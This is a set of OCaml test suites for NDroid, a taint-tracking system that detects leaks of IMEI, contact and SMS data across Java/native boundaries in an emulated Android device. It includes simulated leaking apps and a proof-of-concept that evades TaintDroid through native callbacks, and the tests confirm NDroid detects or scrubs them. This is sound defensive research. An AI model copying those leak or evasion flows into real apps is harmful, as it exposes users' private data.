  let v, t = Device.run device cls "pingJava" [| (int32 10, Taint.imei) |] in
  ignore v;
  (* the counter is derived from the tainted input at every level *)
  Alcotest.(check bool) "taint survives 10 crossings" true
    (Taint.equal t Taint.imei)

(* ---- artifact parsers never crash on corrupt input ---- *)

let base_dex = lazy (Ndroid_dalvik.Dexfile.to_string Ndroid_apps.Cases.case1.H.classes)

let prop_dex_corruption =
  QCheck.Test.make ~name:"corrupted dex parses or fails cleanly" ~count:300
    QCheck.(pair (int_bound 10_000) (int_bound 255))
    (fun (pos, byte) ->
      let img = Bytes.of_string (Lazy.force base_dex) in
      let pos = pos mod Bytes.length img in
      Bytes.set img pos (Char.chr byte);
      match Ndroid_dalvik.Dexfile.of_string (Bytes.to_string img) with
      | _ -> true
      | exception Ndroid_dalvik.Dexfile.Bad_dex _ -> true)

let base_so =
  lazy
    (Ndroid_arm.Sofile.to_string
       (Asm.assemble ~base:0x4A000000
          [ Asm.Label "f"; Asm.I (Insn.mov 0 (Insn.Imm 1)); Asm.I Insn.bx_lr ]))

let prop_so_corruption =
  QCheck.Test.make ~name:"corrupted so parses or fails cleanly" ~count:300
    QCheck.(pair (int_bound 10_000) (int_bound 255))
    (fun (pos, byte) ->
      let img = Bytes.of_string (Lazy.force base_so) in
      let pos = pos mod Bytes.length img in
      Bytes.set img pos (Char.chr byte);
      match Ndroid_arm.Sofile.of_string (Bytes.to_string img) with
      | _ -> true
      | exception Ndroid_arm.Sofile.Bad_sofile _ -> true)

(* ---- sustained mixed load with periodic GC ---- *)

let test_sustained_load_with_gc () =
  let device = H.boot Ndroid_apps.Cases.case1' in
  let nd = Ndroid_core.Ndroid.attach device in
  for _round = 1 to 25 do
    ignore (Device.run device "Lcom/ndroid/demos/Case1p;" "main" [||]);
    Device.gc device
  done;
  (* one leak per round, all tagged 0x202 *)
  let leaks = Ndroid_core.Ndroid.leaks nd in
  Alcotest.(check int) "25 rounds, 25 leaks" 25 (List.length leaks);
  List.iter
    (fun l ->
      Alcotest.(check bool) "tag stable across GCs" true
        (Taint.equal l.Ndroid_android.Sink_monitor.taint (Taint.of_bits 0x202)))
    leaks

let suite =
  [ Alcotest.test_case "deep Java<->native ping-pong" `Quick test_deep_pingpong;
    Alcotest.test_case "taint through 10 crossings" `Quick
      test_pingpong_carries_taint_down;
    Alcotest.test_case "sustained load with GC" `Quick test_sustained_load_with_gc;
    QCheck_alcotest.to_alcotest prop_dex_corruption;
    QCheck_alcotest.to_alcotest prop_so_corruption ]
