(* The system-lib hook engine's taint summaries, function by function
   (Table VI / Listing 3), exercised through real guest calls on an
   NDroid-attached device. *)

module Device = Ndroid_runtime.Device
module Machine = Ndroid_emulator.Machine
module Memory = Ndroid_arm.Memory
module Taint = Ndroid_taint.Taint
module Ndroid = Ndroid_core.Ndroid
module Taint_engine = Ndroid_core.Taint_engine
module A = Ndroid_android

let check_taint = Alcotest.testable Taint.pp Taint.equal
let base = 0x30000000

type ctx = {
  device : Device.t;
  machine : Machine.t;
  mem : Memory.t;
  engine : Taint_engine.t;
  nd : Ndroid.t;
}

let fresh () =
  let device = Device.create () in
  let nd = Ndroid.attach device in
  let machine = Device.machine device in
  Machine.set_host_fn_work machine 0;
  { device; machine; mem = Machine.mem machine; engine = Ndroid.engine nd; nd }

let call c name args =
  fst (Machine.call_native c.machine ~addr:(Machine.host_fn_addr c.machine name) ~args ())

(* a tainted C string at [base] *)
let tainted_cstr c ?(tag = Taint.imei) s =
  Memory.write_cstring c.mem base s;
  Taint_engine.add_mem c.engine base (String.length s + 1) tag

let test_memcpy_summary () =
  let c = fresh () in
  tainted_cstr c "secret";
  ignore (call c "memcpy" [ base + 100; base; 7 ]);
  Alcotest.check check_taint "dst tainted" Taint.imei
    (Taint_engine.mem c.engine (base + 100) 7);
  (* byte granularity: beyond the copy stays clean *)
  Alcotest.check check_taint "past dst clean" Taint.clear
    (Taint_engine.mem c.engine (base + 107) 4)

let test_memset_clears_or_taints () =
  let c = fresh () in
  tainted_cstr c "secret";
  (* memset with an untainted fill overwrites the taint *)
  ignore (call c "memset" [ base; Char.code 'x'; 7 ]);
  Alcotest.check check_taint "memset clears" Taint.clear
    (Taint_engine.mem c.engine base 7)

let test_strcpy_strcat () =
  let c = fresh () in
  tainted_cstr c "AB";
  ignore (call c "strcpy" [ base + 50; base ]);
  Alcotest.check check_taint "strcpy" Taint.imei
    (Taint_engine.mem c.engine (base + 50) 3);
  Memory.write_cstring c.mem (base + 100) "xy";
  ignore (call c "strcat" [ base + 100; base ]);
  Alcotest.check check_taint "strcat appended region" Taint.imei
    (Taint_engine.mem c.engine (base + 102) 3);
  Alcotest.(check string) "strcat behaviour" "xyAB"
    (Memory.read_cstring c.mem (base + 100))

let test_strlen_strcmp_return_taint () =
  let c = fresh () in
  tainted_cstr c "hello";
  ignore (call c "strlen" [ base ]);
  Alcotest.check check_taint "strlen r0" Taint.imei (Taint_engine.reg c.engine 0);
  Memory.write_cstring c.mem (base + 50) "hello";
  ignore (call c "strcmp" [ base + 50; base ]);
  Alcotest.check check_taint "strcmp r0" Taint.imei (Taint_engine.reg c.engine 0)

let test_atoi_strtoul () =
  let c = fresh () in
  tainted_cstr c ~tag:Taint.sms "1234";
  let v = call c "atoi" [ base ] in
  Alcotest.(check int) "atoi value" 1234 v;
  Alcotest.check check_taint "atoi taint" Taint.sms (Taint_engine.reg c.engine 0);
  ignore (call c "strtoul" [ base; 0; 10 ]);
  Alcotest.check check_taint "strtoul taint" Taint.sms (Taint_engine.reg c.engine 0)

let test_strdup () =
  let c = fresh () in
  tainted_cstr c "dupme";
  let p = call c "strdup" [ base ] in
  Alcotest.(check string) "dup content" "dupme" (Memory.read_cstring c.mem p);
  Alcotest.check check_taint "dup taint" Taint.imei (Taint_engine.mem c.engine p 6)

let test_malloc_free_hygiene () =
  let c = fresh () in
  let p = call c "malloc" [ 32 ] in
  Taint_engine.add_mem c.engine p 32 Taint.imei;
  ignore (call c "free" [ p ]);
  Alcotest.check check_taint "freed block cleaned" Taint.clear
    (Taint_engine.mem c.engine p 32);
  let p2 = call c "malloc" [ 32 ] in
  Alcotest.(check int) "allocator reuses" p p2;
  Alcotest.check check_taint "fresh block clean" Taint.clear
    (Taint_engine.mem c.engine p2 32)

let test_realloc_moves_taint () =
  let c = fresh () in
  let p = call c "malloc" [ 16 ] in
  Memory.write_cstring c.mem p "0123456789";
  Taint_engine.add_mem c.engine p 11 Taint.contacts;
  let q = call c "realloc" [ p; 64 ] in
  Alcotest.(check bool) "moved" true (q <> p);
  Alcotest.(check string) "content copied" "0123456789" (Memory.read_cstring c.mem q);
  Alcotest.check check_taint "taint copied" Taint.contacts
    (Taint_engine.mem c.engine q 11);
  Alcotest.check check_taint "old site cleaned" Taint.clear
    (Taint_engine.mem c.engine p 11)

let test_sprintf_summary () =
  let c = fresh () in
  tainted_cstr c ~tag:Taint.contacts "Vincent";
  Memory.write_cstring c.mem (base + 50) "name=%s!";
  ignore (call c "sprintf" [ base + 100; base + 50; base ]);
  Alcotest.(check string) "rendered" "name=Vincent!"
    (Memory.read_cstring c.mem (base + 100));
  Alcotest.check check_taint "output tainted" Taint.contacts
    (Taint_engine.mem c.engine (base + 100) 13)

let test_snprintf_truncation () =
  let c = fresh () in
  Memory.write_cstring c.mem (base + 50) "%s";
  tainted_cstr c "abcdefgh";
  let n = call c "snprintf" [ base + 100; 4; base + 50; base ] in
  Alcotest.(check int) "returns full length" 8 n;
  Alcotest.(check string) "truncated output" "abc"
    (Memory.read_cstring c.mem (base + 100))

let test_sscanf_propagates () =
  let c = fresh () in
  tainted_cstr c ~tag:Taint.sms "42 abc";
  Memory.write_cstring c.mem (base + 50) "%d %s";
  let matched = call c "sscanf" [ base; base + 50; base + 100; base + 200 ] in
  Alcotest.(check int) "two conversions" 2 matched;
  Alcotest.(check int) "parsed int" 42 (Memory.read_u32 c.mem (base + 100));
  Alcotest.(check string) "parsed string" "abc" (Memory.read_cstring c.mem (base + 200));
  Alcotest.check check_taint "outputs tainted" Taint.sms
    (Taint_engine.mem c.engine (base + 100) 4)

let test_libm_summary () =
  let c = fresh () in
  (* double in r0:r1 with tainted registers *)
  let bits = Int64.bits_of_float 2.0 in
  let lo = Int64.to_int (Int64.logand bits 0xFFFFFFFFL)
  and hi = Int64.to_int (Int64.shift_right_logical bits 32) in
  let machine = c.machine in
  let addr = Machine.host_fn_addr machine "sqrt" in
  (* taint the argument registers right before the call by tainting via a
     wrapper: call_native resets nothing in the shadow engine, so set them *)
  Taint_engine.set_reg c.engine 0 Taint.location_gps;
  Taint_engine.set_reg c.engine 1 Taint.location_gps;
  ignore (Machine.call_native machine ~addr ~args:[ lo; hi ] ());
  Alcotest.check check_taint "sqrt result tainted" Taint.location_gps
    (Taint_engine.reg c.engine 0)

let test_memcmp_memchr () =
  let c = fresh () in
  tainted_cstr c "needle";
  Memory.write_cstring c.mem (base + 50) "needle";
  ignore (call c "memcmp" [ base; base + 50; 6 ]);
  Alcotest.check check_taint "memcmp result" Taint.imei (Taint_engine.reg c.engine 0);
  ignore (call c "memchr" [ base; Char.code 'd'; 6 ]);
  Alcotest.check check_taint "memchr result" Taint.imei (Taint_engine.reg c.engine 0)

let test_native_sink_fputs () =
  let c = fresh () in
  tainted_cstr c ~tag:Taint.contacts "payload";
  Memory.write_cstring c.mem (base + 50) "/sdcard/out";
  Memory.write_cstring c.mem (base + 70) "w";
  let file = call c "fopen" [ base + 50; base + 70 ] in
  ignore (call c "fputs" [ base; file ]);
  ignore (call c "fclose" [ file ]);
  Alcotest.(check int) "leak recorded" 1
    (A.Sink_monitor.leak_count (Device.monitor c.device));
  Alcotest.(check string) "file written" "payload"
    (A.Filesystem.contents (Device.fs c.device) "/sdcard/out")

let test_untainted_sink_silent () =
  let c = fresh () in
  Memory.write_cstring c.mem base "boring";
  let fd = call c "socket" [ 2; 1; 0 ] in
  Memory.write_cstring c.mem (base + 50) "host";
  ignore (call c "connect" [ fd; base + 50; 0 ]);
  ignore (call c "send" [ fd; base; 6; 0 ]);
  Alcotest.(check int) "no false positive" 0
    (A.Sink_monitor.leak_count (Device.monitor c.device));
  let s = Ndroid.stats c.nd in
  Alcotest.(check bool) "but the sink was checked" true
    (s.Ndroid.sink_checks >= 1)

let suite =
  [ Alcotest.test_case "memcpy (Listing 3)" `Quick test_memcpy_summary;
    Alcotest.test_case "memset" `Quick test_memset_clears_or_taints;
    Alcotest.test_case "strcpy/strcat" `Quick test_strcpy_strcat;
    Alcotest.test_case "strlen/strcmp return taint" `Quick
      test_strlen_strcmp_return_taint;
    Alcotest.test_case "atoi/strtoul" `Quick test_atoi_strtoul;
    Alcotest.test_case "strdup" `Quick test_strdup;
    Alcotest.test_case "malloc/free hygiene" `Quick test_malloc_free_hygiene;
    Alcotest.test_case "realloc moves taint" `Quick test_realloc_moves_taint;
    Alcotest.test_case "sprintf" `Quick test_sprintf_summary;
    Alcotest.test_case "snprintf truncation" `Quick test_snprintf_truncation;
    Alcotest.test_case "sscanf propagates" `Quick test_sscanf_propagates;
    Alcotest.test_case "libm summary" `Quick test_libm_summary;
    Alcotest.test_case "memcmp/memchr" `Quick test_memcmp_memchr;
    Alcotest.test_case "native sink fputs" `Quick test_native_sink_fputs;
    Alcotest.test_case "untainted sink silent" `Quick test_untainted_sink_silent ]
