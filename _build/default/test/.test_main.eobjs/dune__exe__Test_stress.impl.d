test/test_stress.ml: Alcotest Bytes Char Int32 Lazy List Ndroid_android Ndroid_apps Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint QCheck QCheck_alcotest
