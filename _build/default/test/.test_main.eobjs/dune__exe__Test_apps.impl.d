test/test_apps.ml: Alcotest Lazy List Ndroid_android Ndroid_apps Ndroid_core Ndroid_runtime Ndroid_taint Ndroid_taintdroid String
