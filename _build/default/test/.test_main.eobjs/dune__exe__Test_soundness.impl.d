test/test_soundness.ml: Array Int32 List Ndroid_android Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_taint QCheck QCheck_alcotest String
