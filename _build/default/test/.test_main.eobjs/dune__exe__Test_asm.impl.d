test/test_asm.ml: Alcotest List Ndroid_arm Printf
