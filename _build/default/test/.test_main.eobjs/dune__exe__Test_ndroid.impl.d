test/test_ndroid.ml: Alcotest List Ndroid_android Ndroid_apps Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_runtime Ndroid_taint QCheck QCheck_alcotest String
