test/test_taint.ml: Alcotest Format List Ndroid_taint QCheck QCheck_alcotest
