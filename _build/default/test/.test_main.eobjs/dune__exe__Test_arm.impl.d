test/test_arm.ml: Alcotest List Ndroid_arm QCheck QCheck_alcotest
