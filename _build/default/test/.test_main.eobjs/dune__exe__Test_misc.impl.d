test/test_misc.ml: Alcotest Format List Ndroid_apps Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint String
