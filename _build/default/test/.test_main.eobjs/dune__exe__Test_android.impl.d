test/test_android.ml: Alcotest Int32 Int64 List Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint
