test/test_jni.ml: Alcotest Fun List Ndroid_jni QCheck QCheck_alcotest String
