test/test_dalvik.ml: Alcotest Int32 Ndroid_android Ndroid_dalvik Ndroid_taint
