test/test_runtime.ml: Alcotest Array Char Int32 Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint String
