test/test_summaries.ml: Alcotest Char Int64 Ndroid_android Ndroid_arm Ndroid_core Ndroid_emulator Ndroid_runtime Ndroid_taint String
