test/test_tools.ml: Alcotest List Ndroid_apps Ndroid_arm Ndroid_core Ndroid_emulator String
