test/test_emulator.ml: Alcotest List Ndroid_arm Ndroid_emulator Ndroid_runtime
