test/test_artifacts.ml: Alcotest Array Gen Int32 List Ndroid_android Ndroid_apps Ndroid_arm Ndroid_core Ndroid_corpus Ndroid_dalvik Ndroid_runtime Printf QCheck QCheck_alcotest String Test
