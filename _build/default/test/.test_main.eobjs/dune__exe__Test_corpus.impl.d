test/test_corpus.ml: Alcotest Lazy List Ndroid_corpus Printf QCheck QCheck_alcotest Seq String
