test/test_enforcement.ml: Alcotest List Ndroid_android Ndroid_apps Ndroid_core Ndroid_dalvik Ndroid_runtime Ndroid_taint String
