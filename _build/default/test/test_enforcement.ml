(* The Block policy: leaks suppressed or scrubbed instead of just reported
   (the Sec. VII "protection mechanism" / AppFence-style extension). *)

module Device = Ndroid_runtime.Device
module Ndroid = Ndroid_core.Ndroid
module Taint = Ndroid_taint.Taint
module A = Ndroid_android
module H = Ndroid_apps.Harness
module Cases = Ndroid_apps.Cases
module CS = Ndroid_apps.Case_studies

let run_blocking app =
  let device = H.boot app in
  let nd = Ndroid_core.Ndroid.attach device in
  A.Sink_monitor.set_policy (Device.monitor device) A.Sink_monitor.Block;
  (try ignore (Device.run device (fst app.H.entry) (snd app.H.entry) [||])
   with Ndroid_dalvik.Vm.Java_throw _ -> ());
  (device, nd)

let test_java_sink_blocked () =
  (* case 1': the leak goes through Socket.send — blocking must stop the
     transmission while still recording the attempt *)
  let device, _ = run_blocking Cases.case1' in
  let monitor = Device.monitor device in
  Alcotest.(check bool) "attempt recorded" true (A.Sink_monitor.leak_count monitor >= 1);
  Alcotest.(check int) "and marked blocked" (A.Sink_monitor.leak_count monitor)
    (A.Sink_monitor.blocked_count monitor);
  Alcotest.(check int) "nothing left the device" 0
    (List.length (A.Network.transmissions (Device.net device)))

let test_native_sink_scrubbed () =
  (* PoC case 2 writes contacts through fprintf: under Block the write still
     happens but the payload is scrubbed *)
  let device, _ = run_blocking CS.poc_case2 in
  let monitor = Device.monitor device in
  Alcotest.(check bool) "blocked leak recorded" true
    (A.Sink_monitor.blocked_count monitor >= 1);
  let contents = A.Filesystem.contents (Device.fs device) "/sdcard/CONTACTS" in
  Alcotest.(check bool) "no contact data in the file" false
    (let needle = "Vincent" in
     let nl = String.length needle and hl = String.length contents in
     let rec loop i =
       if i + nl > hl then false
       else if String.sub contents i nl = needle then true
       else loop (i + 1)
     in
     loop 0);
  Alcotest.(check bool) "scrub marker present" true
    (String.contains contents '*')

let test_native_send_scrubbed () =
  (* ePhone's sendto: the SIP REGISTER goes out with the payload scrubbed *)
  let device, _ = run_blocking CS.ephone in
  match A.Network.transmissions (Device.net device) with
  | [ t ] ->
    Alcotest.(check bool) "phone number gone" false
      (let needle = "4804001849" in
       let hay = t.A.Network.payload in
       let nl = String.length needle and hl = String.length hay in
       let rec loop i =
         if i + nl > hl then false
         else if String.sub hay i nl = needle then true
         else loop (i + 1)
       in
       loop 0)
  | ts -> Alcotest.failf "expected 1 transmission, got %d" (List.length ts)

let test_observe_default () =
  let device = H.boot Cases.case1' in
  ignore (Ndroid.attach device);
  Alcotest.(check bool) "default policy is Observe" true
    (A.Sink_monitor.policy (Device.monitor device) = A.Sink_monitor.Observe)

let test_clean_traffic_unaffected () =
  (* blocking must not break untainted traffic: the CF-Bench disk workload
     writes clean data through fwrite *)
  let device = H.boot Ndroid_apps.Cfbench.app in
  Ndroid_apps.Cfbench.prepare device;
  ignore (Ndroid.attach device);
  A.Sink_monitor.set_policy (Device.monitor device) A.Sink_monitor.Block;
  (List.find (fun w -> w.Ndroid_apps.Cfbench.w_name = "Native Disk Write")
     Ndroid_apps.Cfbench.workloads).Ndroid_apps.Cfbench.w_run device ~iterations:4;
  Alcotest.(check int) "clean writes pass through" (4 * 64)
    (String.length
       (A.Filesystem.contents (Device.fs device) "/sdcard/cfbench_out.dat"))

let suite =
  [ Alcotest.test_case "java sink blocked" `Quick test_java_sink_blocked;
    Alcotest.test_case "native sink scrubbed (file)" `Quick
      test_native_sink_scrubbed;
    Alcotest.test_case "native sink scrubbed (network)" `Quick
      test_native_send_scrubbed;
    Alcotest.test_case "observe is the default" `Quick test_observe_default;
    Alcotest.test_case "clean traffic unaffected" `Quick
      test_clean_traffic_unaffected ]
