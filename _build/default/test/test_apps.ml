(* The paper's evaluation apps: each case study must reproduce its figure's
   observable behaviour, and CF-Bench must run everywhere. *)

module H = Ndroid_apps.Harness
module CS = Ndroid_apps.Case_studies
module CF = Ndroid_apps.Cfbench
module Device = Ndroid_runtime.Device
module A = Ndroid_android
module Taint = Ndroid_taint.Taint

let check_taint = Alcotest.testable Taint.pp Taint.equal

let has_substring hay needle =
  let nl = String.length needle and hl = String.length hay in
  let rec loop i =
    if i + nl > hl then false
    else if String.sub hay i nl = needle then true
    else loop (i + 1)
  in
  nl = 0 || loop 0

let log_contains o needle = List.exists (fun l -> has_substring l needle) o.H.flow_log

(* ---- QQPhoneBook (Fig. 6) ---- *)

let qq = lazy (H.run H.Ndroid_full CS.qq_phonebook)

let test_qq_detected_by_ndroid_only () =
  Alcotest.(check bool) "NDroid" true (Lazy.force qq).H.detected;
  Alcotest.(check bool) "TaintDroid misses" false
    (H.run H.Taintdroid_only CS.qq_phonebook).H.detected

let test_qq_url_shape () =
  let o = Lazy.force qq in
  match o.H.transmissions with
  | [ t ] ->
    Alcotest.(check string) "server" "info.3g.qq.com" t.A.Network.dest;
    Alcotest.(check bool) "xpimlogin url" true
      (has_substring t.A.Network.payload "http://sync.3g.qq.com/xpimlogin?sid=")
  | ts -> Alcotest.failf "expected 1 transmission, got %d" (List.length ts)

let test_qq_taint_is_0x202 () =
  let o = Lazy.force qq in
  match o.H.leaks with
  | leak :: _ ->
    Alcotest.check check_taint "contacts|sms" (Taint.of_bits 0x202)
      leak.A.Sink_monitor.taint
  | [] -> Alcotest.fail "no leak"

let test_qq_log_matches_fig6 () =
  let o = Lazy.force qq in
  Alcotest.(check bool) "method header" true
    (log_contains o "name: makeLoginRequestPackageMd5");
  Alcotest.(check bool) "shorty" true (log_contains o "shorty: IILLLLLLLLII");
  Alcotest.(check bool) "class" true
    (log_contains o "class: Lcom/tencent/tccsync/LoginUtil;");
  Alcotest.(check bool) "args[3] tainted 0x202" true
    (List.exists
       (fun l -> has_substring l "args[3]" && has_substring l "taint: 0x202")
       o.H.flow_log);
  Alcotest.(check bool) "dvmCreateStringFromCstr logged" true
    (log_contains o "dvmCreateStringFromCstr return");
  Alcotest.(check bool) "new string tainted" true
    (log_contains o "add taint 0x202 to new string object")

(* ---- ePhone (Fig. 7) ---- *)

let ephone = lazy (H.run H.Ndroid_full CS.ephone)

let test_ephone_detected () =
  Alcotest.(check bool) "NDroid" true (Lazy.force ephone).H.detected;
  Alcotest.(check bool) "TaintDroid misses" false
    (H.run H.Taintdroid_only CS.ephone).H.detected

let test_ephone_sip_register () =
  let o = Lazy.force ephone in
  match o.H.transmissions with
  | [ t ] ->
    Alcotest.(check string) "SIP server" "softphone.comwave.net" t.A.Network.dest;
    Alcotest.(check bool) "REGISTER" true
      (has_substring t.A.Network.payload "REGISTER sip:softphone.comwave.net");
    Alcotest.(check bool) "phone number in payload" true
      (has_substring t.A.Network.payload "4804001849")
  | ts -> Alcotest.failf "expected 1 transmission, got %d" (List.length ts)

let test_ephone_leak_at_sendto () =
  let o = Lazy.force ephone in
  match o.H.leaks with
  | leak :: _ ->
    Alcotest.(check string) "sink" "sendto" leak.A.Sink_monitor.sink;
    Alcotest.check check_taint "contacts tag" Taint.contacts leak.A.Sink_monitor.taint
  | [] -> Alcotest.fail "no leak"

(* ---- PoC case 2 (Fig. 8) ---- *)

let poc2 = lazy (H.run H.Ndroid_full CS.poc_case2)

let test_poc2_file_contents () =
  let o = Lazy.force poc2 in
  Alcotest.(check bool) "record written" true
    (has_substring
       (A.Filesystem.contents (Device.fs o.H.device) "/sdcard/CONTACTS")
       "1 Vincent cx@gg.com")

let test_poc2_log_matches_fig8 () =
  let o = Lazy.force poc2 in
  Alcotest.(check bool) "recordContact header" true
    (log_contains o "name: recordContact");
  Alcotest.(check bool) "shorty ZLLL" true (log_contains o "shorty: ZLLL");
  Alcotest.(check bool) "GetStringUTFChars handler" true
    (log_contains o "TrustCallHandler[GetStringUTFChars]");
  Alcotest.(check bool) "fopen handler" true (log_contains o "Open '/sdcard/CONTACTS'");
  Alcotest.(check bool) "fprintf sink handler" true
    (log_contains o "SinkHandler[fprintf]");
  Alcotest.(check bool) "per-string taint lines" true
    (List.exists (fun l -> has_substring l "write: Vincent") o.H.flow_log)

let test_poc2_fig8_file_ptr () =
  (* the first FILE* the device hands out is the Fig. 8 address *)
  let o = Lazy.force poc2 in
  Alcotest.(check bool) "FILE@0x4006fd44" true
    (log_contains o "Close FILE@0x4006fd44")

(* ---- PoC case 3 (Fig. 9) ---- *)

let poc3 = lazy (H.run H.Ndroid_full CS.poc_case3)

let test_poc3_detected_with_0x1602 () =
  let o = Lazy.force poc3 in
  Alcotest.(check bool) "detected" true o.H.detected;
  match o.H.leaks with
  | leak :: _ ->
    Alcotest.check check_taint "0x1602" (Taint.of_bits 0x1602)
      leak.A.Sink_monitor.taint
  | [] -> Alcotest.fail "no leak"

let test_poc3_log_matches_fig9 () =
  let o = Lazy.force poc3 in
  Alcotest.(check bool) "evadeTaintDroid hooked" true
    (log_contains o "name: evadeTaintDroid");
  Alcotest.(check bool) "new string gets 0x1602" true
    (log_contains o "add taint 0x1602 to new string object");
  Alcotest.(check bool) "dvmInterpret frame log" true
    (log_contains o "Method Name: nativeCallback");
  Alcotest.(check bool) "frame shorty VL" true (log_contains o "Method Shorty: VL");
  Alcotest.(check bool) "taint injected into frame" true
    (log_contains o "add taint to new method frame")

let test_poc3_taintdroid_misses () =
  Alcotest.(check bool) "TaintDroid misses the callback flow" false
    (H.run H.Taintdroid_only CS.poc_case3).H.detected

(* ---- all case studies: vanilla leaks silently ---- *)

let test_vanilla_apps_still_leak_data () =
  (* the data actually leaves the device in every mode — only detection
     differs *)
  List.iter
    (fun app ->
      let o = H.run H.Vanilla app in
      Alcotest.(check bool)
        (app.H.app_name ^ " emits traffic or file writes")
        true
        (o.H.transmissions <> [] || o.H.file_writes <> []))
    (Ndroid_apps.Cases.all @ CS.all)

(* ---- CF-Bench ---- *)

let test_cfbench_runs_everywhere () =
  List.iter
    (fun mode ->
      let device = H.boot CF.app in
      CF.prepare device;
      (match mode with
       | H.Vanilla -> Ndroid_taintdroid.Taintdroid.vanilla device
       | H.Taintdroid_only -> ignore (Ndroid_taintdroid.Taintdroid.attach device)
       | H.Droidscope_mode -> ignore (Ndroid_core.Droidscope.attach device)
       | H.Ndroid_full -> ignore (Ndroid_core.Ndroid.attach device));
      List.iter (fun w -> w.CF.w_run device ~iterations:32) CF.workloads)
    [ H.Vanilla; H.Taintdroid_only; H.Droidscope_mode; H.Ndroid_full ]

let test_cfbench_no_false_positives () =
  let device = H.boot CF.app in
  CF.prepare device;
  ignore (Ndroid_core.Ndroid.attach device);
  List.iter (fun w -> w.CF.w_run device ~iterations:64) CF.workloads;
  Alcotest.(check int) "benchmarks leak nothing" 0
    (A.Sink_monitor.leak_count (Device.monitor device))

let test_cfbench_disk_write_writes () =
  let device = H.boot CF.app in
  CF.prepare device;
  (List.find (fun w -> w.CF.w_name = "Native Disk Write") CF.workloads).CF.w_run
    device ~iterations:4;
  Alcotest.(check bool) "file written" true
    (String.length (A.Filesystem.contents (Device.fs device) "/sdcard/cfbench_out.dat")
     = 4 * 64)

let suite =
  [ Alcotest.test_case "QQ: only NDroid detects" `Quick
      test_qq_detected_by_ndroid_only;
    Alcotest.test_case "QQ: URL shape" `Quick test_qq_url_shape;
    Alcotest.test_case "QQ: taint 0x202" `Quick test_qq_taint_is_0x202;
    Alcotest.test_case "QQ: Fig.6 log" `Quick test_qq_log_matches_fig6;
    Alcotest.test_case "ePhone: only NDroid detects" `Quick test_ephone_detected;
    Alcotest.test_case "ePhone: SIP REGISTER" `Quick test_ephone_sip_register;
    Alcotest.test_case "ePhone: leak at sendto" `Quick test_ephone_leak_at_sendto;
    Alcotest.test_case "PoC2: file contents" `Quick test_poc2_file_contents;
    Alcotest.test_case "PoC2: Fig.8 log" `Quick test_poc2_log_matches_fig8;
    Alcotest.test_case "PoC2: Fig.8 FILE*" `Quick test_poc2_fig8_file_ptr;
    Alcotest.test_case "PoC3: detected with 0x1602" `Quick
      test_poc3_detected_with_0x1602;
    Alcotest.test_case "PoC3: Fig.9 log" `Quick test_poc3_log_matches_fig9;
    Alcotest.test_case "PoC3: TaintDroid misses" `Quick test_poc3_taintdroid_misses;
    Alcotest.test_case "vanilla apps still leak" `Quick
      test_vanilla_apps_still_leak_data;
    Alcotest.test_case "CF-Bench runs everywhere" `Quick test_cfbench_runs_everywhere;
    Alcotest.test_case "CF-Bench no false positives" `Quick
      test_cfbench_no_false_positives;
    Alcotest.test_case "CF-Bench disk write" `Quick test_cfbench_disk_write_writes ]

(* ---- a different device profile changes what leaks, not whether ---- *)

let test_custom_profile_flows_through () =
  let profile =
    { A.Device_profile.default with
      A.Device_profile.imei = "999000111222333";
      contacts =
        [ { A.Device_profile.contact_id = 7; name = "Zoe"; email = "z@z.example";
            phone = "777" } ] }
  in
  let app = Ndroid_apps.Cases.case1 in
  let device = Ndroid_runtime.Device.create ~profile () in
  Ndroid_runtime.Device.install_classes device app.H.classes;
  let extern name =
    match
      Ndroid_runtime.Device.Machine.host_fn_addr
        (Ndroid_runtime.Device.machine device) name
    with
    | a -> Some a
    | exception Not_found -> None
  in
  List.iter
    (fun (name, prog) ->
      Ndroid_runtime.Device.provide_library device name prog;
      Ndroid_runtime.Device.load_library device name)
    (app.H.build_libs extern);
  let nd = Ndroid_core.Ndroid.attach device in
  ignore (Ndroid_runtime.Device.run device (fst app.H.entry) (snd app.H.entry) [||]);
  match Ndroid_core.Ndroid.leaks nd with
  | [ leak ] ->
    Alcotest.(check string) "custom IMEI leaked" "999000111222333"
      leak.A.Sink_monitor.data
  | leaks -> Alcotest.failf "expected one leak, got %d" (List.length leaks)

let suite =
  suite
  @ [ Alcotest.test_case "custom device profile" `Quick
        test_custom_profile_flows_through ]
