(* Tooling: disassembler and analysis reports. *)

module Asm = Ndroid_arm.Asm
module Insn = Ndroid_arm.Insn
module Cpu = Ndroid_arm.Cpu
module Disasm = Ndroid_arm.Disasm
module Report = Ndroid_core.Report
module H = Ndroid_apps.Harness

let has_substring hay needle =
  let nl = String.length needle and hl = String.length hay in
  let rec loop i =
    if i + nl > hl then false
    else if String.sub hay i nl = needle then true
    else loop (i + 1)
  in
  nl = 0 || loop 0

let test_disasm_arm_roundtrip () =
  let insns =
    [ Insn.mov 0 (Insn.Imm 7);
      Insn.add 1 0 (Insn.Reg 0);
      Insn.ldr 2 1 4;
      Insn.push [ Insn.r4; Insn.lr ];
      Insn.bx_lr ]
  in
  let prog =
    Asm.assemble ~base:0x1000
      (Asm.Label "f" :: List.map (fun i -> Asm.I i) insns)
  in
  let lines = Disasm.program prog in
  Alcotest.(check int) "line count" (List.length insns) (List.length lines);
  List.iter2
    (fun insn line ->
      match line.Disasm.l_insn with
      | Some decoded ->
        Alcotest.(check string) "same instruction" (Insn.to_string insn)
          (Insn.to_string decoded)
      | None -> Alcotest.failf "failed to disassemble %s" (Insn.to_string insn))
    insns lines;
  Alcotest.(check (option string)) "label annotation" (Some "f")
    (List.hd lines).Disasm.l_label

let test_disasm_data_marked () =
  let prog =
    Asm.assemble ~base:0x1000
      [ Asm.I Insn.bx_lr; Asm.Label "data"; Asm.Word 0xFFFFFFFF ]
  in
  match Disasm.program prog with
  | [ _code; data ] ->
    (* 0xFFFFFFFF has cond=1111: not decodable in our subset *)
    Alcotest.(check bool) "data line" true (data.Disasm.l_insn = None);
    Alcotest.(check (option string)) "data label" (Some "data")
      data.Disasm.l_label
  | lines -> Alcotest.failf "expected 2 lines, got %d" (List.length lines)

let test_disasm_thumb () =
  let prog =
    Asm.assemble ~mode:Cpu.Thumb ~base:0x2000
